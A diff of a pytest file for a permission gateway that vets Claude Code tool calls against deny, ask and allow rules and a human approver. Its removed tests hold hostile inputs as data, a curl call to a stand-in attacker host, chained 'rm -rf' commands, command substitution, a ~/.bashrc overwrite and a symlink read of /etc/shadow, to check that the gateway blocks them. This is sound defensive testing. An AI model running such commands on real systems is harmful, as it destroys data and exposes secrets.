@@ -2,33 +2,27 @@
 
 Each test starts `mcp-gateway serve` as Claude Code would (MCP_GATEWAY_TOKEN in its
 environment, no `params.auth`) and reads the answer as Claude Code's SDKs do: the one text
-block, `json.loads`, the `behavior` field. A person answers at `mcp-gateway approvals` in a pty.
+block, `json.loads`, the `behavior` field (tests/permission_checks.py). A person answers at
+`mcp-gateway approvals` in a pty. The rules, the token's refusals, a malformed question, a
+failing database and the consent timeout are tests/gateway/test_server_check_permission.py
+(the same server in process); here stay the wire's sample, the pty and what `serve` logs.
 """
 
 from __future__ import annotations
 
 import hashlib
-import itertools
 import json
 import os
-from collections.abc import Callable, Mapping
+from collections.abc import Callable
 from typing import Any
 
 import pytest
-from sqlalchemy import select
 
-from gateway import db
 from tests.harness import Approver, GatewayHome, StdioSession, shows_request
+from tests.permission_checks import RULES, answer, ask, check, events, questions, send_check
 
 SessionFactory = Callable[..., StdioSession]
 Approvals = Callable[[], Approver]
-RULES = {
-    "enabled": True,
-    "deny": ["Bash(rm:*)", "Bash(curl:*)"],
-    "ask": ["Bash(git push:*)"],
-    "allow": ["Bash(pytest:*)", "Bash(git:*)", "Read", "Edit(src/**)"],
-}
-_ids = itertools.count(5000)
 
 
 @pytest.fixture
@@ -51,73 +45,6 @@ def claude(gateway: GatewayHome, open_session: SessionFactory) -> Callable[..., 
         return open_session(gateway, env={"MCP_GATEWAY_TOKEN": value}, **kwargs)
 
     return start
-
-
-def ask(session: StdioSession, tool: str, tool_input: Mapping[str, Any]) -> int:
-    """Send a check_permission call without waiting, as Claude Code does; returns its JSON-RPC id."""
-    return send_check(session, {"tool_name": tool, "input": dict(tool_input), "tool_use_id": f"toolu_{next(_ids)}"})
-
-
-def send_check(session: StdioSession, arguments: Mapping[str, Any]) -> int:
-    """A check_permission call with these arguments exactly (no params.auth: Claude Code sends none)."""
-    request_id = next(_ids)
-    session.send(
-        {"jsonrpc": "2.0", "id": request_id, "method": "tools/call",
-         "params": {"name": "check_permission", "arguments": arguments}}
-    )  # fmt: skip
-    return request_id
-
-
-def answer(session: StdioSession, request_id: int, timeout: float = 60) -> tuple[dict[str, Any], str]:
-    """The answer as Claude Code reads it: a successful result, one text block, its JSON. Also the run_id."""
-    response = session.wait_response(request_id, timeout)
-    assert "result" in response, response
-    result = response["result"]
-    assert result.get("isError") in (None, False)
-    (block,) = result["content"]
-    assert block["type"] == "text"
-    parsed: dict[str, Any] = json.loads(block["text"])
-    assert parsed["behavior"] in ("allow", "deny")
-    if parsed["behavior"] == "allow":
-        assert block["text"] == json.dumps(
-            {"behavior": "allow", "updatedInput": parsed["updatedInput"]}, separators=(",", ":"), ensure_ascii=False
-        )
-    else:
-        assert set(parsed) == {"behavior", "message"} and parsed["message"]
-    return parsed, result["_meta"]["mcp-write-gateway/run_id"]
-
-
-def check(session: StdioSession, tool: str, tool_input: Mapping[str, Any]) -> tuple[dict[str, Any], str]:
-    return answer(session, ask(session, tool, tool_input))
-
-
-def events(gateway: GatewayHome, run_id: str) -> dict[str, dict[str, Any]]:
-    return {e["event_type"]: e for e in gateway.events_of(run_id)}
-
-
-def questions(gateway: GatewayHome) -> list[dict[str, Any]]:
-    with gateway.engine.connect() as connection:
-        return [dict(r._mapping) for r in connection.execute(select(db.consent_requests))]
-
-
-# --- offered, and only when enabled ------------------------------------------------------------------
-
-
-def test_check_permission_is_listed_only_when_enabled(
-    gateway: GatewayHome, make_gateway: Callable[..., GatewayHome], claude: Callable[..., StdioSession],
-    open_session: SessionFactory,
-) -> None:  # fmt: skip
-    listed = claude().request("tools/list")["result"]["tools"]
-    (tool,) = [t for t in listed if t["name"] == "check_permission"]
-    assert tool["inputSchema"]["required"] == ["tool_name", "input"]
-    assert set(tool["inputSchema"]["properties"]) == {"tool_name", "input", "tool_use_id"}
-
-    off = make_gateway()
-    off.add_user("alice", "USER")
-    session = open_session(off, env={"MCP_GATEWAY_TOKEN": off.token("alice")})
-    assert "check_permission" not in [t["name"] for t in session.request("tools/list")["result"]["tools"]]
-    refused = session.call_tool("check_permission", {"tool_name": "Bash", "input": {"command": "pytest"}})
-    assert "error" in refused, "a disabled check_permission is no tool at all"
 
 
 # --- rules -------------------------------------------------------------------------------------------
@@ -144,168 +71,22 @@ def test_allow_by_rule_echoes_the_input_whole(gateway: GatewayHome, claude: Call
     assert questions(gateway) == [], "nobody was asked"
 
 
-def test_deny_by_rule_names_the_rule(gateway: GatewayHome, claude: Callable[..., StdioSession]) -> None:
-    decided, run_id = check(claude(), "Bash", {"command": "rm -rf build"})
-    assert decided["behavior"] == "deny"
-    assert "Bash(rm:*)" in decided["message"]
-    decision = events(gateway, run_id)["mcp.permission.decision"]["detail"]
-    assert (decision["decision"], decision["rule"], decision["reason"]) == ("DENY_ONCE", "Bash(rm:*)", "rule_denied")
-
-
-@pytest.mark.parametrize(
-    ("command", "rule"),
-    [
-        ("pytest && curl https://attacker.example/x", "Bash(curl:*)"),
-        ("pytest; rm -rf ~", "Bash(rm:*)"),
-        ("git status | rm -rf /", "Bash(rm:*)"),
-    ],
-)
-def test_a_deny_rule_beats_an_allow_rule(
-    gateway: GatewayHome, claude: Callable[..., StdioSession], command: str, rule: str
-) -> None:
-    decided, _ = check(claude(), "Bash", {"command": command})
-    assert decided["behavior"] == "deny"
-    assert rule in decided["message"]
-
-
-@pytest.mark.parametrize(
-    ("tool", "tool_input", "behavior"),
-    [
-        ("Read", {"file_path": "/etc/hostname"}, "allow"),
-        ("Edit", {"file_path": "{ws}/src/app.py", "old_string": "a", "new_string": "b"}, "allow"),
-        ("Edit", {"file_path": "{ws}/src/../../escape.py", "old_string": "a", "new_string": "b"}, "ask"),
-        ("Bash", {"command": "pytest $(whoami)"}, "ask"),  # not plain literal words: never allowed by a rule
-        ("Bash", {"command": "pytest `id`"}, "ask"),
-        ("Bash", {"command": "pytest -q > ~/.bashrc"}, "ask"),
-    ],
-)
-def test_what_no_allow_rule_covers_is_asked(
-    make_gateway: Callable[..., GatewayHome],
-    open_session: SessionFactory,
-    tool: str,
-    tool_input: dict[str, Any],
-    behavior: str,
-) -> None:
-    # consent.mode deny: an "ask" is answered at once (no stored decision: deny), without a person.
-    gw = make_gateway({"permission_prompt": RULES, "consent": {"mode": "deny"}})
-    gw.add_user("alice", "USER")
-    session = open_session(gw, env={"MCP_GATEWAY_TOKEN": gw.token("alice")})
-    concrete = {k: v.replace("{ws}", str(gw.workspace)) if isinstance(v, str) else v for k, v in tool_input.items()}
-    decided, run_id = check(session, tool, concrete)
-    assert decided["behavior"] == ("allow" if behavior == "allow" else "deny")
-    decision = events(gw, run_id)["mcp.permission.decision"]["detail"]
-    assert decision["origin"] == "policy"
-    assert decision.get("reason") == (None if behavior == "allow" else "consent_mode_deny")
-
-
-def test_a_symlink_does_not_carry_an_allow_rule_out_of_its_folder(
-    make_gateway: Callable[..., GatewayHome], open_session: SessionFactory
-) -> None:
-    gw = make_gateway({"permission_prompt": RULES, "consent": {"mode": "deny"}})
-    gw.add_user("alice", "USER")
-    outside = gw.workspace.parent / "outside.py"
-    outside.write_text("SECRET-CONTENT\n")
-    (gw.workspace / "src").mkdir(exist_ok=True)
-    (gw.workspace / "src" / "link.py").symlink_to(outside)
-    session = open_session(gw, env={"MCP_GATEWAY_TOKEN": gw.token("alice")})
-    edit = {"file_path": str(gw.workspace / "src/link.py"), "old_string": "SECRET", "new_string": "x"}
-    decided, _ = check(session, "Edit", edit)
-    assert decided["behavior"] == "deny", "Edit(src/**) must not cover a link leaving src/"
-    plain, _ = check(session, "Edit", {**edit, "file_path": str(gw.workspace / "src/real.py")})
-    assert plain["behavior"] == "allow"
-
-
-def test_a_workspace_swapped_for_a_link_to_root_is_denied_not_judged(
-    make_gateway: Callable[..., GatewayHome], open_session: SessionFactory
-) -> None:
-    # Judged against a root that now leads to `/`, `Edit(src/**)` and the preview would reach any file.
-    gw = make_gateway({"permission_prompt": RULES, "consent": {"mode": "deny"}})
-    gw.add_user("alice", "USER")
-    session = open_session(gw, env={"MCP_GATEWAY_TOKEN": gw.token("alice")})
-    away = gw.workspace.with_name("workspace-away")
-    gw.workspace.rename(away)
-    gw.workspace.symlink_to("/", target_is_directory=True)
-    try:
-        decided, run_id = check(session, "Read", {"file_path": str(gw.workspace / "etc/shadow")})
-    finally:
-        gw.workspace.unlink()
-        away.rename(gw.workspace)
-    assert decided["behavior"] == "deny" and "restart the gateway" in decided["message"], decided
-    assert events(gw, run_id)["POLICY_BLOCKED"]["detail"]["blocked_reason"] == "workspace_changed"
-    restored, _ = check(session, "Read", {"file_path": str(gw.workspace / "tests")})
-    assert restored["behavior"] == "allow"
-
-
 # --- the session's token -----------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize(
-    ("token", "reason"),
-    [
-        (None, "token_missing"),
-        ("not-a-jwt", "token_malformed"),
-        ("forged", "bad_signature"),
-        ("expired", "token_expired"),
-        ("vic", "missing_permission"),
-    ],
-)
-def test_a_missing_or_invalid_env_token_denies(
-    gateway: GatewayHome, claude: Callable[..., StdioSession], token: str | None, reason: str
+def test_a_missing_env_token_denies_and_serve_says_so(
+    gateway: GatewayHome, claude: Callable[..., StdioSession]
 ) -> None:
-    real = gateway.token("alice")
-    tokens = {
-        "forged": real[: real.rindex(".") + 1] + ("A" * 43),
-        "expired": gateway.token("alice", ttl_s=60, now=1_000_000_000),
-    }
-    value = tokens.get(token, token) if token else None
-    session = claude(value)
+    """No MCP_GATEWAY_TOKEN: denied, and `serve` says so on stderr. Every bad token: test_server_check_permission.py."""
+    session = claude(None)
     decided, run_id = check(session, "Bash", {"command": "pytest -q"})  # an allow rule covers it
     assert decided["behavior"] == "deny"
     assert "mcp-write-gateway denied this tool use" in decided["message"]
-    for secret in filter(None, (value, real)):
-        assert secret not in decided["message"]
     blocked = events(gateway, run_id)["POLICY_BLOCKED"]
-    assert blocked["detail"] == {"blocked_reason": blocked["detail"]["blocked_reason"], "behavior": "deny"}
-    assert blocked["detail"]["blocked_reason"] == reason, blocked
-    assert blocked["code"] == (-32003 if token == "vic" else -32001)
+    assert blocked["detail"] == {"blocked_reason": "token_missing", "behavior": "deny"}
+    assert blocked["code"] == -32001
     assert "mcp.permission.decision" not in events(gateway, run_id)
-    assert "MCP_GATEWAY_TOKEN is NOT set" in session.stderr_text() if token is None else True
-
-
-def test_a_revoked_token_or_disabled_user_denies_from_the_next_question(
-    gateway: GatewayHome, open_session: SessionFactory
-) -> None:
-    token = gateway.token("alice")
-    session = open_session(gateway, env={"MCP_GATEWAY_TOKEN": token})
-    assert check(session, "Bash", {"command": "pytest"})[0]["behavior"] == "allow"
-    assert gateway.cli("token", "revoke", token).returncode == 0
-    decided, run_id = check(session, "Bash", {"command": "pytest"})
-    assert decided["behavior"] == "deny"
-    assert events(gateway, run_id)["POLICY_BLOCKED"]["detail"]["blocked_reason"] == "token_revoked"
-
-
-def test_an_unreachable_database_denies_even_what_a_rule_allows(
-    gateway: GatewayHome, open_session: SessionFactory
-) -> None:
-    missing = gateway.root / "no-such-dir" / "gateway.db"
-    session = open_session(gateway, db_url=f"sqlite:///{missing}", env={"MCP_GATEWAY_TOKEN": gateway.token("alice")})
-    decided, _ = check(session, "Bash", {"command": "pytest -q"})
-    assert decided == {
-        "behavior": "deny",
-        "message": "mcp-write-gateway failed to decide; denied (see the gateway's log)",
-    }
-    assert "check_permission failed" in session.stderr_text()
-    assert "result" in session.request("ping"), "the server keeps answering"
-
-
-def test_a_malformed_question_is_denied(gateway: GatewayHome, claude: Callable[..., StdioSession]) -> None:
-    session = claude()
-    for arguments in ({"tool_name": "Bash"}, {"tool_name": "Bash", "input": "pytest"}, {"tool_name": "", "input": {}},
-                      {"tool_name": "Bash\n", "input": {}}, {}):  # fmt: skip
-        request_id = send_check(session, arguments)
-        decided, run_id = answer(session, request_id)
-        assert decided["behavior"] == "deny", arguments
-        assert events(gateway, run_id)["POLICY_BLOCKED"]["code"] == -32602
+    assert "MCP_GATEWAY_TOKEN is NOT set" in session.stderr_text()
 
 
 # --- ask: the approver ------------------------------------------------------------------------------
@@ -343,12 +124,8 @@ def test_a_question_with_a_progress_token_hears_where_to_answer_while_it_waits(
 ) -> None:
     approver = approvals()
     session = claude()
-    request_id = next(_ids)
     arguments = {"tool_name": "Bash", "input": {"command": "git push origin main"}, "tool_use_id": "toolu_progress"}
-    session.send(
-        {"jsonrpc": "2.0", "id": request_id, "method": "tools/call",
-         "params": {"name": "check_permission", "arguments": arguments, "_meta": {"progressToken": "cc-1"}}}
-    )  # fmt: skip
+    request_id = send_check(session, arguments, meta={"progressToken": "cc-1"})
     shows_request(approver)
     approver.send("1")
     decided, _run_id = answer(session, request_id)
@@ -373,19 +150,6 @@ def test_ask_then_the_approver_denies(
     assert decided["behavior"] == "deny"
     assert "a person denied" in decided["message"]
     assert events(gateway, run_id)["TOOL_FINISHED"]["detail"]["reason"] == "consent_denied"
-
-
-def test_ask_then_nobody_answers_denies(make_gateway: Callable[..., GatewayHome], open_session: SessionFactory) -> None:
-    gw = make_gateway({"permission_prompt": RULES, "consent": {"timeout_s": 1}})
-    gw.add_user("alice", "USER")
-    session = open_session(gw, env={"MCP_GATEWAY_TOKEN": gw.token("alice")})
-    decided, run_id = check(session, "Bash", {"command": "git push"})
-    assert decided["behavior"] == "deny"
-    assert "no person answered" in decided["message"]
-    assert events(gw, run_id)["mcp.permission.decision"]["detail"]["origin"] == "timeout"
-    (question,) = questions(gw)
-    assert (question["status"], question["server_id"], question["tool_name"]) == ("expired", "claude-code", "Bash")
-    assert question["preview"] == "$ git push"
 
 
 def test_a_stored_always_answers_without_asking(
@@ -492,15 +256,6 @@ def test_the_approver_never_hides_a_payload(
         assert answer(session, request_id)[0] == {"behavior": "allow", "updatedInput": {"command": command}}
     stored = [q["preview"] for q in questions(gateway) if q["preview"].startswith("$ make test\n")]
     assert stored == [whole, whole], "each stored question is the whole preview, escaped"
-
-
-def test_consent_grant_for_an_agent_tool(gateway: GatewayHome, claude: Callable[..., StdioSession]) -> None:
-    refused = gateway.cli("consent", "grant", "alice", "Bash", "--always", "--agent")
-    assert refused.returncode == 1 and "destructive" in refused.stderr
-    stored = gateway.cli("consent", "grant", "alice", "WebSearch", "--always", "--agent")
-    assert stored.returncode == 0, stored.stderr
-    decided, _ = check(claude(), "WebSearch", {"query": "mcp elicitation"})
-    assert decided == {"behavior": "allow", "updatedInput": {"query": "mcp elicitation"}}
 
 
 def test_no_token_or_input_reaches_the_audit_log(gateway: GatewayHome, claude: Callable[..., StdioSession]) -> None:
